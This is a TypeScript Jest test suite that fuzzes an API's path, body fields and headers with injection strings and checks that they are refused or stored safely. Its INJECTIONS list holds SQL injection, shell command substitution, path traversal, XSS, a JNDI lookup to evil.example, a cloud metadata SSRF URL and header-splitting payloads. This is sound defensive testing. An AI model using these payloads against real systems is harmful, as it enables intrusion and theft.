import { randomUUID } from "node:crypto";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "@jest/globals";
import { bodySchemaOf, needsIdempotencyKey } from "../../api/http/codes-of.ts";
import type { Endpoint } from "../../api/endpoint.ts";
import { endpoints } from "../../api/endpoints.ts";
import { AuthAuditEvent } from "../../db/accounts/auth-audit-event.ts";
import { RateLimit } from "../../db/platform/rate-limit.ts";
import { attacksAt } from "../factories/api/attacks.ts";
import { registrationForm } from "../factories/accounts/identity.ts";
import { inlineSchema } from "../factories/api/inline-schema.ts";
import {
  refusalOf,
  registeredClient,
  registeredCoach,
  somebody,
} from "../factories/accounts/people.ts";
import { type TestAnswer, type TestApi, startApi } from "../harness/api.ts";
import { type TestIssuer, startTestIssuer } from "../harness/test-issuer.ts";

/** Text with a meaning to a parser: a header, a log, SQL, JSON, a shell, a browser, a template. */
const INJECTIONS: readonly string[] = [
  "a\r\nSet-Cookie: evil=1",
  "a\nX-Injected: 1",
  "a\u2028b\u2029c",
  "a\u0000b",
  "\u001b[31mred\u001b[0m",
  "a\bb\fc",
  "'; drop table app_user; --",
  "' or '1'='1",
  "\\'; select pg_sleep(9); --",
  "$1",
  "%s%n%x",
  "%00%0d%0a",
  '","role":"OWNER","x":"',
  '{"$ne":null}',
  "__proto__",
  "constructor",
  "../../../../etc/passwd",
  "..%2f..%2fetc",
  "$(touch /tmp/x)",
  "`id`",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "{{7*7}}",
  "${7*7}",
  "${jndi:ldap://evil.example/x}",
  "\u202egnp.exe",
  "\u200b",
  "\ufeff",
  "\ud800",
  "\uffff",
  "🏋️‍♀️".repeat(3),
  "İıſK",
  "NULL",
  "NaN",
  "true",
  "-1",
  "1e400",
  "9007199254740993",
  "http://169.254.169.254/latest/meta-data",
  "javascript:alert(1)",
  "=cmd|'/c calc'!A0",
  "a".repeat(5_000),
];

/** Texts tried per route in the ordinary run, in its path and in its fields. */
const TEXTS_A_ROUTE = 1;

let provider: TestIssuer;
let api: TestApi;
let coach: Awaited<ReturnType<typeof registeredCoach>>;
const tokens: string[] = [];
const lines: string[] = [];

beforeAll(async () => {
  provider = await startTestIssuer();
  api = await startApi({
    issuer: provider.issuer,
    onLog: (line) => void lines.push(JSON.stringify(line)),
  });
  coach = await registeredCoach(api, somebody(provider));
  const client = await registeredClient(api, coach, somebody(provider));
  const admin = await somebody(provider).token("WEB", { roles: ["admin", "support"] });
  tokens.push(coach.token, await client.person.token("CLIENT_MOBILE"), admin);
});
afterAll(async () => {
  await api.close();
  await provider.close();
});
// All requests come from one address, and limits on failures are tested elsewhere.
beforeEach(() => api.deps.database.em.fork().nativeDelete(RateLimit, {}));

const named = endpoints.map(
  (endpoint, place) => [`${endpoint.method} ${endpoint.path}`, endpoint, place] as const,
);
const keyOf = (endpoint: Endpoint) => (needsIdempotencyKey(endpoint) ? { key: randomUUID() } : {});

describe("Text with a meaning to a parser", () => {
  test.each(named)(
    "in the path of %s is an unknown id or refused",
    async (_name, endpoint, place) => {
      if (!endpoint.path.includes("{")) return;
      const calls = attacksAt(INJECTIONS, place, TEXTS_A_ROUTE).flatMap((text) =>
        tokens.map((token) => () => {
          const part = encodeURIComponent(text.toWellFormed());
          const path = endpoint.path.replaceAll(/\{\w+\}/g, part);
          return api.call(endpoint.method, path, { token, ...keyOf(endpoint) });
        }),
      );
      expect(await faultsOf(calls)).toEqual([]);
    },
  );

  test.each(named)(
    "in each field of %s is stored as text or refused",
    async (_name, endpoint, place) => {
      const fields = fieldsOf(endpoint);
      const path = endpoint.path.replaceAll("{workspaceId}", coach.workspaceId);
      const [token = ""] = endpoint.access === "client" ? tokens.slice(1) : tokens;
      const calls = attacksAt(INJECTIONS, place, TEXTS_A_ROUTE).map((text) => () => {
        const body = Object.fromEntries(fields.map((field) => [field, text]));
        const filled = path.replaceAll(/\{\w+\}/g, () => randomUUID());
        return api.call(endpoint.method, filled, { token, body, ...keyOf(endpoint) });
      });
      expect(fields.length === 0 ? [] : await faultsOf(calls)).toEqual([]);
    },
  );

  test("in the headers that are read is echoed well formed or not at all", async () => {
    for (const text of INJECTIONS) {
      // More than 16 KB of headers are refused by Node before the API reads them.
      if (text.length > 500 || !/^[\t\x20-\x7e]*$/.test(text)) continue;
      const headers = {
        "X-Request-Id": text,
        "X-Workspace-Id": text,
        "Idempotency-Key": text,
        "User-Agent": text,
        "X-Access-Reason": text,
        "X-Forwarded-For": text,
        "Accept-Language": text,
      };
      const { token } = coach;
      const answer = await api.call("GET", "/api/v1/auth/me", { token, headers });
      expect(answer.status).toBe(200);
      expect(answer.headers.get("X-Request-Id")).toMatch(/^[A-Za-z0-9._-]{1,64}$/);
    }
  });

  test("that is accepted as a name comes back unchanged", async () => {
    const kept: string[] = [];
    for (const text of INJECTIONS) {
      const token = await somebody(provider).token("COACH_MOBILE");
      const body = { ...registrationForm(), displayName: text, workspaceName: text };
      const answer = await api.call("POST", "/api/v1/auth/coach-registration", { token, body });
      if (answer.status !== 200) {
        expect(refusalOf(answer)).toBe("400 VALIDATION_FAILED");
        continue;
      }
      const me = await api.call("GET", "/api/v1/auth/me", { token });
      const name = text.trim();
      expect(me.data).toMatchObject({
        user: { displayName: name },
        workspace: { name },
        roles: ["COACH"],
      });
      kept.push(text);
    }
    expect(kept).toContain("'; drop table app_user; --");
    expect(kept).toContain("<script>alert(1)</script>");
    expect(kept).not.toContain("a\r\nSet-Cookie: evil=1");
    expect(kept).not.toContain("a\u0000b");
  });

  test("adds no line to the log and no name to the audit", async () => {
    for (const line of lines) expect(line).not.toContain("\n");
    expect(lines.join("\n")).not.toContain("drop table");
    const audited = await api.deps.database.em.fork().find(AuthAuditEvent, {});
    // The reason that a person gives is stored unchanged.
    const kept = audited.map(({ metadata, ...line }) => ({ ...line, ...metadata, reason: null }));
    expect(JSON.stringify(kept)).not.toContain("drop table");
  });
});

/** Refused as a problem, or done. Never a fault, and nothing internal is shown. */
function problemsOf({ status, text, headers }: TestAnswer): string | null {
  if (status >= 500) return `status ${status}`;
  if (headers.has("Set-Cookie") || headers.has("X-Injected")) return "a header of the caller";
  // Whole words: an id may contain the digits of an SQLSTATE.
  const ours = /\bat \/|node_modules|\bselect |insert into|\b22P0\d\b|\b22021\b/;
  if (ours.test(text)) return text.slice(0, 200);
  return null;
}

/** Fields of a body by name, from the schema. All get text, whatever their type. */
function fieldsOf(endpoint: Endpoint): readonly string[] {
  const schema = bodySchemaOf(endpoint);
  if (schema === undefined) return [];
  const { properties } = inlineSchema(schema, "input");
  return Object.keys(properties ?? {});
}

async function faultsOf(calls: readonly (() => Promise<TestAnswer>)[]): Promise<string[]> {
  const faults: string[] = [];
  for (const call of calls) {
    const fault = problemsOf(await call());
    if (fault !== null) faults.push(fault);
  }
  return faults;
}
